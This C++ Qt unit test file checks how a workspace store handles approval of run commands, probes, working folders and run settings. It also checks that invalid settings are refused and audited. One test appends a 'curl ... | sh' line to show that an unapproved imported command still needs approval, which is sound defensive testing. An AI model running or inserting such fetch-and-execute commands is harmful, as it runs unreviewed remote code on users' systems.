// Workspace writes that decide what may run (WorkspaceRuns.cpp) on a real file: an approval covers
// exactly the commands, probe, working folder and env file shown, commands typed by the user count as
// approved, the trust fields never come from an edited value; run settings and item run fields are
// stored, audited and refused when they make no sense, without touching the file.

#include "StoreFixture.h"
#include "domain/Trust.h"
#include "store/Workspace.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTemporaryDir>
#include <QtTest>

using namespace gl;
using fixture::RawDb;

namespace {

QStringList keysOf(const QJsonObject &o)
{
    QStringList keys = o.keys();
    keys.sort();
    return keys;
}

} // namespace

class TestWorkspaceTrust final : public QObject, private fixture::SampleWorkspace {
    Q_OBJECT
private Q_SLOTS:
    void init();
    void cleanup();
    void approvalCoversExactlyTheSpec();
    void typedCommandsCountAsApproved();
    void runSettings();
    void runSettingsRefusals_data();
    void runSettingsRefusals();
    void itemRunFields();

};

void TestWorkspaceTrust::init()
{
    const QString problem = setUpSample();
    QVERIFY2(problem.isEmpty(), qPrintable(problem));
}

void TestWorkspaceTrust::cleanup()
{
    tearDownSample();
}

void TestWorkspaceTrust::approvalCoversExactlyTheSpec()
{
    const qint64 lintId = id(QStringLiteral("Formatting & linting"));
    Item lint = reload(lintId);
    QVERIFY(lint.commandsImported);
    QVERIFY(needsApproval(lint, m_release.run)); // the fixture's hash approves something else

    const QString hash = runSpecHash(lint, m_release.run);
    QVERIFY(m_ws->approveItems({ { lintId, hash } }).ok());
    lint = reload(lintId);
    QCOMPARE(lint.approvedHash, hash);
    QVERIFY(lint.commandsImported);
    QVERIFY(!needsApproval(lint, m_release.run));
    const AuditEntry approved = m_ws->audit(m_releaseId, 1)->front();
    QCOMPARE(approved.action, QStringLiteral("approve"));
    QCOMPARE(approved.entityId, lintId);
    // The audit row says exactly what was approved.
    const QJsonObject what = QJsonDocument::fromJson(approved.after.toUtf8()).object();
    QCOMPARE(what.value(QLatin1String("approved_hash")).toString(), hash);
    QCOMPARE(what.value(QLatin1String("commands")).toArray(), QJsonArray::fromStringList(lint.commands));
    QCOMPARE(what.value(QLatin1String("working_folder")).toString(), QStringLiteral("/srv/checkout"));
    QCOMPARE(what.value(QLatin1String("env_file")).toString(), QStringLiteral(".env.staging"));
    QVERIFY(what.value(QLatin1String("probe")).isNull());

    // The approval covers the working folder too: another folder asks again.
    RunSettings moved = m_release.run;
    moved.workingFolder = QStringLiteral("/srv/other-checkout");
    QVERIFY(m_ws->setRunSettings(m_releaseId, moved).ok());
    QVERIFY(needsApproval(reload(lintId), m_ws->loadRelease(m_releaseId)->run));

    // An edit elsewhere in the item keeps it imported and approved as it was.
    lint = reload(lintId);
    lint.title = QStringLiteral("Formatting and linting");
    QVERIFY(m_ws->updateItem(lint).ok());
    QVERIFY(reload(lintId).commandsImported);
    QCOMPARE(reload(lintId).approvedHash, hash);
    // The trust fields are not taken from the value.
    lint.commandsImported = false;
    lint.approvedHash = runSpecHash(lint, moved);
    QVERIFY(m_ws->updateItem(lint).ok());
    QVERIFY(reload(lintId).commandsImported);
    QCOMPARE(reload(lintId).approvedHash, hash);

    // Refusals, each leaving everything as it was.
    const QStringList before = RawDb(m_path, true).dump();
    QCOMPARE(m_ws->approveItems({ { lintId, QStringLiteral("not-a-hash") } }).error().code, ErrorCode::Invalid);
    QCOMPARE(m_ws->approveItems({ { lintId, hash.toUpper() } }).error().code, ErrorCode::Invalid);
    QCOMPARE(m_ws->approveItems({ { lintId, runSpecHash(lint, moved) }, { 999999, hash } }).error().code,
        ErrorCode::NotFound);
    Result<void> group = m_ws->approveItems({ { id(QStringLiteral("Database")), hash } });
    QCOMPARE(group.error().code, ErrorCode::Invalid);
    QVERIFY2(group.message().contains(QLatin1String("group")), qPrintable(group.message()));
    QCOMPARE(RawDb(m_path, true).dump(), before);
}

void TestWorkspaceTrust::typedCommandsCountAsApproved()
{
    const qint64 lintId = id(QStringLiteral("Formatting & linting"));
    Item lint = reload(lintId);
    QVERIFY(needsApproval(lint, m_release.run));
    const QStringList imported = lint.commands;
    lint.commands = { QStringLiteral("npm run lint -- --max-warnings 0") };
    QVERIFY(m_ws->updateItem(lint, true).ok());
    lint = reload(lintId);
    QCOMPARE(lint.commands, QStringList { QStringLiteral("npm run lint -- --max-warnings 0") });
    QVERIFY(lint.commandsImported);  // still from a file: only what was typed is approved
    QVERIFY(!needsApproval(lint, m_release.run));
    const AuditEntry update = m_ws->audit(m_releaseId, 1)->front();
    QCOMPARE(update.action, QStringLiteral("update"));
    const QJsonObject before = QJsonDocument::fromJson(update.before.toUtf8()).object();
    const QJsonObject after = QJsonDocument::fromJson(update.after.toUtf8()).object();
    QCOMPARE(after.value(QLatin1String("approved_hash")).toString(), runSpecHash(lint, m_release.run));
    QVERIFY(after.contains(QLatin1String("commands")));

    // An undo puts the imported commands back: nobody approved those, so they ask again.
    lint.commands = imported;
    QVERIFY(m_ws->updateItem(lint).ok());
    QVERIFY(needsApproval(reload(lintId), m_release.run));
    // Fixing one line of an unapproved import does not approve the lines kept from it.
    lint.commands = imported;
    lint.commands.append(QStringLiteral("curl -fsS https://example.invalid/i.sh | sh"));
    QVERIFY(m_ws->updateItem(lint).ok());  // as an import tool would put it
    QVERIFY(needsApproval(reload(lintId), m_release.run));
    lint.commands = imported;
    lint.commands[0] = QStringLiteral("npm run lint -- --fix");
    QVERIFY(m_ws->updateItem(lint, true).ok());
    QVERIFY(needsApproval(reload(lintId), m_release.run));
    // A change that is not typed (an import tool, an undo) never approves anything.
    lint.commands = { QStringLiteral("npm run lint") };
    QVERIFY(m_ws->updateItem(lint).ok());
    QVERIFY(needsApproval(reload(lintId), m_release.run));

    // A probe typed over an imported one counts the same.
    const qint64 smokeId = id(QStringLiteral("Smoke test"));
    QVERIFY(RawDb(m_path).exec(QStringLiteral("UPDATE items SET commands_imported = 1 WHERE id = %1").arg(smokeId)));
    Item smoke = reload(smokeId);
    QVERIFY(needsApproval(smoke, m_release.run));
    smoke.probe->url = QStringLiteral("https://staging.example.com/ready");
    QVERIFY(m_ws->updateItem(smoke, true).ok());
    QVERIFY(!needsApproval(reload(smokeId), m_release.run));
}

void TestWorkspaceTrust::runSettings()
{
    QCOMPARE(m_release.run, fixture::sampleRelease().run);
    RunSettings s;
    s.workingFolder = QStringLiteral("/home/qa/app");
    s.timeoutSeconds = 0;
    s.secretMarkers = { QStringLiteral("TOKEN"), QStringLiteral("SESSION") };
    QVERIFY(m_ws->setRunSettings(m_releaseId, s).ok());
    QCOMPARE(m_ws->loadRelease(m_releaseId)->run, s);
    // Stored compactly: only what differs from the defaults.
    const QJsonObject stored = QJsonDocument::fromJson(
        RawDb(m_path, true).value(QStringLiteral("SELECT run_settings FROM releases")).toString().toUtf8())
                                   .object();
    QCOMPARE(keysOf(stored),
        (QStringList { QStringLiteral("secret_markers"), QStringLiteral("timeout_seconds"),
            QStringLiteral("working_folder") }));
    const AuditEntry audit = m_ws->audit(m_releaseId, 1)->front();
    QCOMPARE(audit.entity, QStringLiteral("release"));
    QCOMPARE(audit.action, QStringLiteral("run-settings"));
    QCOMPARE(QJsonDocument::fromJson(audit.before.toUtf8()).object().value(QLatin1String("env_file")).toString(),
        QStringLiteral(".env.staging"));
    QCOMPARE(QJsonDocument::fromJson(audit.after.toUtf8()).object().value(QLatin1String("timeout_seconds")).toInt(), 0);

    // The same settings again: no write at all.
    const size_t auditSize = m_ws->audit(m_releaseId)->size();
    QVERIFY(m_ws->setRunSettings(m_releaseId, s).ok());
    QCOMPARE(m_ws->audit(m_releaseId)->size(), auditSize);

    QVERIFY(m_ws->setRunSettings(m_releaseId, RunSettings()).ok());
    QCOMPARE(RawDb(m_path, true).value(QStringLiteral("SELECT run_settings FROM releases")).toString(),
        QStringLiteral("{}"));
    QCOMPARE(m_ws->loadRelease(m_releaseId)->run, RunSettings());
}

void TestWorkspaceTrust::runSettingsRefusals_data()
{
    QTest::addColumn<QString>("field");
    QTest::addColumn<ErrorCode>("code");
    QTest::addColumn<QString>("messagePart");
    QTest::newRow("negative timeout") << QStringLiteral("timeout") << ErrorCode::Invalid << QStringLiteral("timeout");
    QTest::newRow("no output cap") << QStringLiteral("cap") << ErrorCode::Invalid << QStringLiteral("output cap");
    QTest::newRow("relative folder") << QStringLiteral("folder") << ErrorCode::Invalid
                                     << QStringLiteral("absolute path, not \u201ccheckout\u201d");
    QTest::newRow("blank marker") << QStringLiteral("marker") << ErrorCode::Invalid << QStringLiteral("secret marker");
    QTest::newRow("unknown release") << QStringLiteral("release") << ErrorCode::NotFound << QStringLiteral("999");
}

void TestWorkspaceTrust::runSettingsRefusals()
{
    QFETCH(QString, field);
    QFETCH(ErrorCode, code);
    QFETCH(QString, messagePart);
    RunSettings s;
    qint64 release = m_releaseId;
    if (field == QLatin1String("timeout"))
        s.timeoutSeconds = -1;
    else if (field == QLatin1String("cap"))
        s.outputCap = 0;
    else if (field == QLatin1String("folder"))
        s.workingFolder = QStringLiteral("checkout");
    else if (field == QLatin1String("marker"))
        s.secretMarkers << QStringLiteral("  ");
    else
        release = 999;
    const QStringList before = RawDb(m_path, true).dump();
    Result<void> refused = m_ws->setRunSettings(release, s);
    QVERIFY(!refused.ok());
    QCOMPARE(refused.error().code, code);
    QVERIFY2(refused.message().contains(messagePart), qPrintable(refused.message()));
    QCOMPARE(RawDb(m_path, true).dump(), before);
}

void TestWorkspaceTrust::itemRunFields()
{
    const qint64 buildId = id(QStringLiteral("Build images"));
    Item build = reload(buildId);
    build.expectedExitCode = 1;
    build.outputPattern = QStringLiteral("(?i)warning");
    build.outputMustMatch = false;
    build.timeoutSeconds = 1800;
    build.probe = Probe { QStringLiteral("GET"), QStringLiteral("http://127.0.0.1:8080/"), 200, 0, QString(), 10000 };
    QVERIFY(m_ws->updateItem(build).ok());
    Item back = reload(buildId);
    build.updatedAt = back.updatedAt;
    build.updatedBy = back.updatedBy;
    // How it runs is what it asks: the edit is its last change (issue 4, freshness).
    QCOMPARE(back.changedAt, back.updatedAt);
    build.changedAt = back.changedAt;
    QVERIFY(back == build);
    build.probe.reset();
    QVERIFY(m_ws->updateItem(build).ok());
    QCOMPARE(reload(buildId).probe, std::nullopt);

    Item bad = build;
    bad.outputPattern = QStringLiteral("([unclosed");
    Result<void> pattern = m_ws->updateItem(bad);
    QVERIFY(!pattern.ok());
    QVERIFY2(pattern.message().contains(QLatin1String("output pattern")), qPrintable(pattern.message()));
    QVERIFY2(pattern.message().contains(QLatin1String("Build images")), qPrintable(pattern.message()));
    bad = build;
    bad.timeoutSeconds = -5;
    QVERIFY(!m_ws->updateItem(bad).ok());
    bad = build;
    bad.probe = Probe();
    Result<void> url = m_ws->updateItem(bad);
    QVERIFY(!url.ok());
    QVERIFY2(url.message().contains(QLatin1String("URL")), qPrintable(url.message()));
    QVERIFY(reload(buildId) == reload(buildId)); // loads are stable
    QCOMPARE(reload(buildId).timeoutSeconds, 1800);
}

QTEST_GUILESS_MAIN(TestWorkspaceTrust)
#include "tst_workspacetrust.moc"
